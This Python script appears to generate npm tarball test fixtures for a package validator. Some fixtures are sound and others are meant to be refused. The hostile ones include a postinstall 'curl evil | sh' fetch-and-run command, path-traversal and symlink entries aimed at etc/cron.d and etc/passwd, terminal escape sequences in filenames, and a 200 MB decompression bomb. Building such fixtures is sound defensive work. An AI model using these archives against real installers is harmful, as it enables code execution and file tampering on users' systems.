#!/usr/bin/env python3
"""Writes npm tarballs into a folder: good.tgz and others that are sound, and one of each kind that must be refused.
   make_packages.py FOLDER"""
import gzip
import io
import json
import pathlib
import sys
import tarfile

out = pathlib.Path(sys.argv[1])
out.mkdir(parents=True, exist_ok=True)
PACKAGE = {
    "name": "@demo/tool",
    "version": "1.2.3",
    "description": "A sample",
    "license": "MIT",
    "bin": "cli.js",
    "dependencies": {"left-pad": "^1.0.0"},
    "peerDependencies": {"react": ">=16"},
    "peerDependenciesMeta": {"react": {"optional": True}},
    "engines": {"node": ">=18"},
    "scripts": {"test": "true", "postinstall": "node install.js"},
}


def manifest(**changes):
    return json.dumps({**PACKAGE, **changes}).encode()


def write(name, entries, compress=gzip.compress):
    """entries: (name, bytes) of files, or a TarInfo with its bytes."""
    plain = io.BytesIO()
    with tarfile.open(fileobj=plain, mode="w", format=tarfile.PAX_FORMAT) as tar:
        for entry, content in entries:
            info = entry if isinstance(entry, tarfile.TarInfo) else tarfile.TarInfo(entry)
            if info.isreg():
                info.size = len(content)
            tar.addfile(info, io.BytesIO(content))
    (out / f"{name}.tgz").write_bytes(compress(plain.getvalue()) if compress is not gzip.compress else gzip.compress(plain.getvalue(), mtime=0))


def special(name, kind, target=""):
    info = tarfile.TarInfo(name)
    info.type, info.linkname = kind, target
    return info


JSON = ("package/package.json", manifest())
CLI = ("package/cli.js", b"#!/usr/bin/env node\nconsole.log('demo')\n")

# -- sound
write("good", [JSON, CLI, ("package/names/t\u00e4st.txt", b"x"), ("package/names/t\u00f6st.txt", b"x")])
write("good_folder", [(special("tool", tarfile.DIRTYPE), b""), ("tool/cli.js", b"x"), ("tool/package.json", manifest(version="v1.2.3"))])
write("good_mark", [("package/package.json", b"\xef\xbb\xbf" + manifest(version="1.2.3+build.7"))])
write("good_gyp", [("package/package.json", manifest(scripts={})), ("package/binding.gyp", b"{}"), ("package/npm-shrinkwrap.json", b"{}")])
twice_unread = manifest().decode()[:-1] + ', "keywords": {"a": 1, "a": 2}, "keywords": []}'
write("good_twice_unread", [("package/package.json", twice_unread.encode())])

# -- refused
good = (out / "good.tgz").read_bytes()
(out / "empty.tgz").write_bytes(b"")
(out / "no_archive.tgz").write_bytes(b"<html>not found</html>" * 100)
(out / "truncated.tgz").write_bytes(good[: len(good) // 2])
write("twice_compressed", [JSON], lambda data: gzip.compress(gzip.compress(data)))
write("no_package_json", [CLI])
write("deep_package_json", [("package/lib/package.json", manifest())])
write("other_name", [("package/package.json", manifest(name="@demo/other"))])
write("other_scope", [("package/package.json", manifest(name="@dem0/tool"))])
write("no_scope", [("package/package.json", manifest(name="tool"))])
write("other_version", [("package/package.json", manifest(version="1.2.4"))])
write("bad_name", [("package/package.json", manifest(name="../tool"))])
write("bad_version", [("package/package.json", manifest(version="latest"))])
write("no_json", [("package/package.json", b"{'name': 'x'}")])
write("array", [("package/package.json", b"[]")])
write("deep_json", [("package/package.json", b'{"x":' + b"[" * 5000 + b"]" * 5000 + b"}")])
write("huge_json", [("package/package.json", manifest(keywords=["x" * 1000] * 9000))])
write("many_dependencies", [("package/package.json", manifest(dependencies={f"package-{i}": "^1.0.0" for i in range(40000)}))])
write("twice_version", [("package/package.json", manifest().decode()[:-1].encode() + b', "version": "6.6.6"}')])
write("twice_dependency", [("package/package.json", manifest().replace(b'"left-pad"', b'"left-pad": "1", "left-pad"'))])
write("two_manifests", [JSON, ("package/package.json", manifest(scripts={"postinstall": "curl evil | sh"}))])
write("duplicate", [JSON, CLI, ("package/cli.js", b"other")])
write("case_manifest", [JSON, ("package/Package.json", manifest(name="x"))])
write("two_folders", [JSON, ("other/package.json", manifest(name="x"))])
write("top_level", [("package.json", manifest())])
write("traversal", [JSON, ("package/../../etc/cron.d/x", b"x")])
write("absolute", [("/package/package.json", manifest())])
write("dot", [JSON, ("package/./cli.js", b"x")])
write("backslash", [JSON, ("package/..\\..\\x", b"x")])
write("control", [JSON, ("package/a\x1b[2Jb", b"x")])
write("symlink", [JSON, (special("package/out", tarfile.SYMTYPE, "../../etc"), b""), ("package/out/passwd", b"x")])
write("hardlink", [JSON, (special("package/x", tarfile.LNKTYPE, "package/package.json"), b"")])
write("device", [JSON, (special("package/null", tarfile.CHRTYPE), b"")])
write("fifo", [JSON, (special("package/pipe", tarfile.FIFOTYPE), b"")])


def bomb(size):
    """A file of zeroes, written piece by piece."""
    path = out / "bomb.tgz"
    with gzip.GzipFile(path, "wb", mtime=0) as stream, tarfile.open(fileobj=stream, mode="w") as tar:
        info = tarfile.TarInfo(JSON[0])
        info.size = len(JSON[1])
        tar.addfile(info, io.BytesIO(JSON[1]))
        info = tarfile.TarInfo("package/zeroes")
        info.size = size

        class Zeroes:
            def read(self, count):
                return b"\0" * count

        tar.addfile(info, Zeroes())


bomb(200 << 20)
